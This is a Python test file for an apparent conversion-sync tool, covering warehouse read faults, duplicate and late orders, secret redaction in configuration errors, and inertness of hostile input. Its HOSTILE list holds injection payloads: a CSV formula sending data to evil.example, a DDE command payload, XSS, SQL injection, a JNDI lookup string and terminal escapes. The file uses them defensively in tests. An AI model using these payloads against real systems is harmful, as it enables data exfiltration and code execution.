"""What a warehouse, an environment and a cell may hold: faults 38 to 41, 48 and 49."""

import csv
import re
import subprocess
import sys
from collections import Counter
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb
import psycopg
import pyarrow as pa
import pytest
from click.testing import CliRunner

from tests.faults.trial import Trial
from tests.shop import DAY, HOLD, NOON
from xcapi_dagster.cli import main
from xcapi_dagster.delivery.doubt import doubts, resolve
from xcapi_dagster.errors import ConfigurationError, WarehouseError
from xcapi_dagster.sandbox import DEMO_EVENT_ID, DEMO_PIXEL_ID, Do, Fault, Match
from xcapi_dagster.settings import DEMO, VARIABLES, from_environment
from xcapi_dagster.warehouse import Warehouse, open_warehouse

Try = Callable[..., Trial]

NEXT_DAY = f"{NOON + timedelta(days=1):%Y-%m-%d}"


class InSmallBatches:
    """A warehouse of which orders are read a few at a time; somebody may be told of each batch."""

    def __init__(self, warehouse: Warehouse, rows: int, told: Callable[[], object] = lambda: None) -> None:
        self._warehouse, self._rows, self._told = warehouse, rows, told

    def __call__(self, start: datetime, end: datetime) -> Iterator[pa.RecordBatch]:
        """The orders of a window."""
        for batch in self._warehouse.read(start, end, batch_rows=self._rows):
            yield batch
            self._told()


def changes_nothing(trial: Trial, read: Any) -> None:
    """With ``read`` in the place of the warehouse a run fails: it claims nothing and leaves all files as they are."""
    whole, posts = type(trial.shop).read, trial.posts
    before = trial.shop.files(), trial.shop.outputs.path("conversions", DAY).read_bytes()
    requests = trial.query("SELECT count(*) FROM request")
    trial.shop.read = read  # type: ignore[method-assign]
    with pytest.raises(WarehouseError):
        trial.shop.sync()
    trial.shop.read = whole.__get__(trial.shop)  # type: ignore[method-assign]
    assert trial.posts == posts
    assert trial.query("SELECT count(*) FROM request") == requests
    assert (trial.shop.files(), trial.shop.outputs.path("conversions", DAY).read_bytes()) == before


def test_fault_38_a_query_that_fails_on_a_late_row(attempt: Try, tmp_path: Path) -> None:
    """Nothing is claimed of what was read until then; the next whole read goes on as if nothing had been."""
    trial = attempt()
    trial.shop.put_many(30)
    trial.shop.sync()
    with duckdb.connect(str(tmp_path / "shop.duckdb")) as connection:
        connection.execute("""
            CREATE VIEW orders AS SELECT 'late-' || n AS order_id, TIMESTAMPTZ '2026-11-20 12:00:00+00' AS ordered_at,
                CASE WHEN n = 9000 THEN error('a row') ELSE 'late' || n || '@example.com' END AS email, true AS consent
            FROM range(10_000) AS t(n)
        """)
    warehouse = open_warehouse(f"duckdb:///{tmp_path}/shop.duckdb", "orders", "UTC")
    changes_nothing(trial, InSmallBatches(warehouse, 100))
    trial.shop.put_many(10, "late")
    trial.judge(trial.shop.sync(), {"accepted": 40})
    trial.settles()


def test_fault_38_a_server_that_ends_the_connection(attempt: Try, postgresql_ledger_url: str) -> None:
    """After the first rows of a PostgreSQL warehouse."""
    trial = attempt()
    trial.shop.put_many(30)
    trial.shop.sync()
    with psycopg.connect(postgresql_ledger_url, autocommit=True) as connection:
        connection.execute("""
            CREATE VIEW orders AS SELECT 'late-' || n AS order_id, TIMESTAMPTZ '2026-11-20 12:00+00' AS ordered_at,
                n || repeat('x', 3000) || '@example.com' AS email, true AS consent FROM generate_series(1, 9999) AS t(n)
        """)
        warehouse = open_warehouse(postgresql_ledger_url, "orders", "UTC")
        others = "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid() AND datname = %s"
        name = connection.info.dbname
        read = InSmallBatches(warehouse, 1_000, told=lambda: connection.execute(others, [name]))
        changes_nothing(trial, read)


def test_fault_39_an_order_twice_in_one_read(attempt: Try) -> None:
    """The latest version is sent, once; the others are counted as what they are."""
    trial = attempt()
    trial.shop.put_many(10)
    later = NOON + timedelta(hours=1)
    trial.shop.orders += [
        {**trial.shop.orders[3], "updated_at": later, "value": "3.00"},
        {**trial.shop.orders[3], "updated_at": NOON, "value": "2.00"},
        {**trial.shop.orders[4], "event_id": f"tw-{DEMO_PIXEL_ID}-{DEMO_EVENT_ID}"},
        {**trial.shop.orders[5], "order_id": "order-5b", "conversion_id": "order-5", "updated_at": later},
    ]
    uploaded = trial.shop.sync()
    assert (uploaded.counts.read, uploaded.counts.duplicate, uploaded.counts.accepted) == (14, 4, 10)
    trial.judge(uploaded, {"accepted": 10})
    sent = {each.conversion["conversion_id"]: each.conversion["value"] for each in trial.sandbox.received}
    assert sent["order-3"] == "3.00"
    trial.settles()


def test_fault_40_a_row_that_changes_after_its_acceptance(attempt: Try) -> None:
    """X has no corrections: told, and not sent; changed back, it is what X has."""
    trial = attempt()
    trial.shop.put_many(10)
    trial.shop.sync()
    trial.shop.put("order-4", value="4.00")
    uploaded = trial.shop.sync()
    assert uploaded.counts.requests == 0
    trial.judge(uploaded, {"accepted": 9, "changed": 1})
    trial.shop.put("order-4")
    trial.judge(trial.shop.sync(), {"accepted": 10})
    trial.settles()


def test_fault_41_orders_that_arrive_late(attempt: Try) -> None:
    """They are all that the next run sends."""
    trial = attempt()
    trial.shop.put_many(10)
    trial.shop.sync()
    trial.shop.put_many(5, "late")
    uploaded = trial.shop.sync()
    assert (uploaded.counts.already_accepted, uploaded.counts.accepted) == (10, 5)
    assert trial.sandbox.requests[-1].conversions == 5
    trial.judge(uploaded, {"accepted": 15})
    trial.settles()


def test_fault_41_orders_that_move_to_another_partition(attempt: Try) -> None:
    """Accepted, not yet sent, in both at once: each is sent once, wherever it is seen first."""
    trial = attempt()
    trial.shop.put_many(10, "sent")
    trial.shop.sync()
    tomorrow = NOON + timedelta(hours=13)
    trial.shop.put("sent-1", ordered_at=tomorrow)
    trial.shop.put_many(3, "new", ordered_at=tomorrow)
    trial.shop.orders.append({**trial.shop.orders[0], "order_id": "sent-2", "ordered_at": tomorrow})
    trial.judge(trial.shop.sync(), {"accepted": 9})
    trial.shop.key = NEXT_DAY
    uploaded = trial.shop.sync()
    trial.judge(uploaded, {"accepted": 3, "changed": 2})
    assert trial.arrived == Counter(order["order_id"] for order in trial.shop.orders) - Counter(["sent-2"])
    trial.settles()


def test_fault_41_an_order_in_doubt_that_moves(attempt: Try) -> None:
    """It is not the order that was sent, so that the policy does not cover it: an operator decides, and is obeyed."""
    trial = attempt()
    trial.shop.put_many(3)
    trial.sandbox.script([Fault(Match(next=4), Do(drop="before"))])
    trial.shop.sync()
    trial.shop.put("order-1", ordered_at=NOON + timedelta(hours=13))
    trial.judge(trial.shop.sync(), {"accepted": 2})
    trial.shop.key = NEXT_DAY
    trial.judge(trial.shop.sync(), {"held": 1})
    with trial.shop.ledger() as ledger:
        assert resolve(ledger, doubts(ledger, trial.shop.policy), "lost", by="ann@shop", why="not in Ads Manager") == 1
    trial.judge(trial.shop.sync(), {"accepted": 1})
    trial.settles()


CANARY = "canary-s3cr3t"
COMPLETE = {
    "XCAPI_HOME": "/srv/xcapi",
    "XCAPI_WAREHOUSE_URL": "duckdb:////srv/shop.duckdb",
    "XCAPI_PIXEL_ALSO_FIRES": "false",
    "X_ADS_ACCOUNT_ID": "18ce54d4x5t",
    "X_ADS_PIXEL_ID": "o8z6j",
    "X_ADS_EVENT_ID": "o87ne",
}
OAUTH = ["X_ADS_CONSUMER_KEY", "X_ADS_CONSUMER_SECRET", "X_ADS_ACCESS_TOKEN", "X_ADS_ACCESS_TOKEN_SECRET"]
SPOILED = {
    "line_break": f"{CANARY}\n",
    "two_lines": f"{CANARY}\n{CANARY}",
    "carriage_return": f"{CANARY}\r\n",
    "space": f"{CANARY} {CANARY}",
    "no_break_space": f"{CANARY}\N{NO-BREAK SPACE}",
    "zero_width": f"{CANARY}\N{ZERO WIDTH SPACE}",
    "quotes": f"\N{LEFT DOUBLE QUOTATION MARK}{CANARY}\N{RIGHT DOUBLE QUOTATION MARK}",
    "header": f"{CANARY}\r\nX-Injected: yes",
}


def refusal(environ: dict[str, str]) -> str:
    """Why these variables are refused: one line, and in it or behind it no secret."""
    with pytest.raises(ConfigurationError) as raised:
        from_environment(environ)
    error: BaseException | None = raised.value
    while error:
        assert CANARY not in repr(error)
        error = error.__cause__ or (None if error.__suppress_context__ else error.__context__)
    assert len(str(raised.value).splitlines()) == 1
    return str(raised.value)


@pytest.mark.parametrize("variable", [*OAUTH, "X_ADS_PIXEL_TOKEN"])
@pytest.mark.parametrize("value", ["", " ", "\t"], ids=["empty", "space", "tab"])
def test_fault_48_a_secret_that_is_blank(variable: str, value: str) -> None:
    """As if it were not set: what is missing is named."""
    credentials = dict.fromkeys(OAUTH, CANARY) if variable in OAUTH else {}
    message = refusal(COMPLETE | credentials | {variable: value})
    assert (variable if variable in OAUTH else "X_ADS_PIXEL_TOKEN") in message


@pytest.mark.parametrize("variable", [*OAUTH, "X_ADS_PIXEL_TOKEN"])
@pytest.mark.parametrize("value", SPOILED.values(), ids=SPOILED)
def test_fault_48_a_secret_that_fits_in_no_header(variable: str, value: str) -> None:
    """The variable is named and its value not shown, whichever of the two ways to sign in it is for."""
    credentials = dict.fromkeys(OAUTH, CANARY) if variable in OAUTH else {}
    assert variable in refusal(COMPLETE | credentials | {variable: value})


def test_fault_48_no_secret_at_all() -> None:
    """Both ways to sign in are named."""
    message = refusal(COMPLETE)
    assert all(name in message for name in (*OAUTH, "X_ADS_PIXEL_TOKEN"))


@pytest.mark.parametrize("variable", sorted({*VARIABLES.values()} - {"XCAPI_ORDERS", "XCAPI_HOME"}))
def test_fault_48_a_secret_in_the_wrong_variable(variable: str) -> None:
    """Where a value is refused, it is not shown: somebody may have pasted a secret there."""
    complete = COMPLETE | {"X_ADS_PIXEL_TOKEN": "a-token"}
    try:
        from_environment(complete | {variable: f"{CANARY}\n"})
    except ConfigurationError:
        assert variable in refusal(complete | {variable: f"{CANARY}\n"})


@pytest.mark.slow
def test_fault_48_the_command_line_says_it_in_one_line(tmp_path: Path) -> None:
    """Status 2, nothing written."""
    environ = COMPLETE | {"X_ADS_PIXEL_TOKEN": f"{CANARY}\n", "XCAPI_HOME": str(tmp_path / "home")}
    command = [sys.executable, "-m", "xcapi_dagster.cli", "sync", "--partition", DAY]
    done = subprocess.run(command, env=environ, cwd=tmp_path, capture_output=True, text=True, check=False, timeout=300)
    assert (done.returncode, done.stdout, len(done.stderr.splitlines())) == (2, "", 1)
    assert "X_ADS_PIXEL_TOKEN" in done.stderr
    assert CANARY not in done.stderr
    assert list(tmp_path.iterdir()) == []


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    "  =1+1", "\x00=1+1", "\N{FULLWIDTH EQUALS SIGN}1+1", "\N{FULLWIDTH PLUS SIGN}1", "\N{FULLWIDTH COMMERCIAL AT}A",
    "<script>alert(1)</script>", "\"'><img src=x onerror=alert(1)>", "</script><!--", "'; DROP TABLE request;--",
    "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "a\nb", "a\r\nb", 'a"b,c;d', "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe", "\x00",
    "\x7f\x9b31m", "[bold red]x[/]", "[/nothing]", "{{ 7*7 }}", "${jndi:ldap://x}", "%s%n", "../../passwd",
    "\\u0000", "NULL", "nan", "1e5", "null", "[]", "a\N{LINE SEPARATOR}b",
]  # fmt: skip
# What makes a spreadsheet read a cell as a formula: OWASP "CSV injection", and ASVS 1.2.10.
FORMULA = re.compile(r"[\s\0]*[=+\-@\t\r\N{FULLWIDTH EQUALS SIGN}\N{FULLWIDTH PLUS SIGN}\N{FULLWIDTH COMMERCIAL AT}]")
NUMBERS = ("value", "request_id")


def hostile_shop(trial: Trial) -> list[str]:
    """Orders with these texts in every column; returns the ids by which X is to know them."""
    texts = [text for text in HOSTILE if text.strip()]
    for number, text in enumerate(texts):
        trial.shop.put(f"{text}{number}", description=text, email="ann@example.com")
        trial.shop.put(f"id-{number}", conversion_id=f"{text}#{number}")
        trial.shop.put(f"{text}/bad{number}", email=text, value=text)
        trial.shop.put(f"{text}/event{number}", event_id=text, email="bob@example.com")
    return texts


def test_fault_49_hostile_texts_are_inert_in_sql_and_json(attempt: Try) -> None:
    """Whatever the texts are, the counts add up, X gets them as they are, and the ledger stands."""
    trial = attempt()
    texts = hostile_shop(trial)
    uploaded = trial.shop.sync()
    like_ids = [f"{text}/event{n}" for n, text in enumerate(texts) if text.isalnum() and text == text.lower()]
    trial.judge(uploaded, rejected=like_ids)
    assert uploaded.counts.accepted >= 2 * len(texts) - 4
    assert {f"{text.strip()}#{number}" for number, text in enumerate(texts)} <= set(trial.arrived)
    assert trial.query("SELECT count(*) FROM request WHERE state = 'accepted'") == [(1,)]
    trial.settles()


def test_fault_49_hostile_texts_are_inert_in_a_spreadsheet(attempt: Try) -> None:
    """No cell of the report's CSV begins like a formula, and each order is in one row of it."""
    trial = attempt()
    hostile_shop(trial)
    trial.shop.sync()
    text = trial.shop.outputs.path("rejection_csv", DAY).read_text(encoding="utf-8")
    rows = list(csv.DictReader(text.replace("\0", "\N{SYMBOL FOR NULL}").splitlines(keepends=True)))
    assert len(rows) == len(trial.shop.rows("rejection_report")) > len(HOSTILE)
    cells = [(name, cell) for row in rows for name, cell in row.items() if name not in NUMBERS]
    suspicious = [(name, cell) for name, cell in cells if FORMULA.match(cell.replace("\N{SYMBOL FOR NULL}", "\0"))]
    assert suspicious == []


def test_fault_49_hostile_texts_are_inert_on_a_terminal(attempt: Try, tmp_path: Path) -> None:
    """What an operator looks at holds no control character but ends of lines, and no order changes its look."""
    trial = attempt(policy=HOLD)
    hostile_shop(trial)
    trial.sandbox.script([Fault(Match(request=1), Do(drop="before"))])
    trial.shop.sync()
    given = {name: str(value) for name, value in DEMO.items() if name in VARIABLES} | {
        "home": str(tmp_path), "warehouse_url": "duckdb:////nowhere.duckdb", "api_url": trial.sandbox.url,
        "on_unknown": "hold",
    }  # fmt: skip
    environ = {VARIABLES[name]: value for name, value in given.items()}
    for command in ("list", "show 1"):
        done = CliRunner().invoke(main, ["held", *command.split()], env=environ, color=True)
        assert done.exit_code == 0, done.output
        unprintable = {character for character in done.output if not character.isprintable()}
        assert unprintable <= {"\n"}
    assert "[bold red]x[/]" in done.output
    why = "[/ticket] \x1b[31m seen \N{RIGHT-TO-LEFT OVERRIDE}"
    done = CliRunner().invoke(main, ["held", "resolve", "1", "--as", "accepted", "--why", why], env=environ, color=True)
    assert done.exit_code == 0, done.output
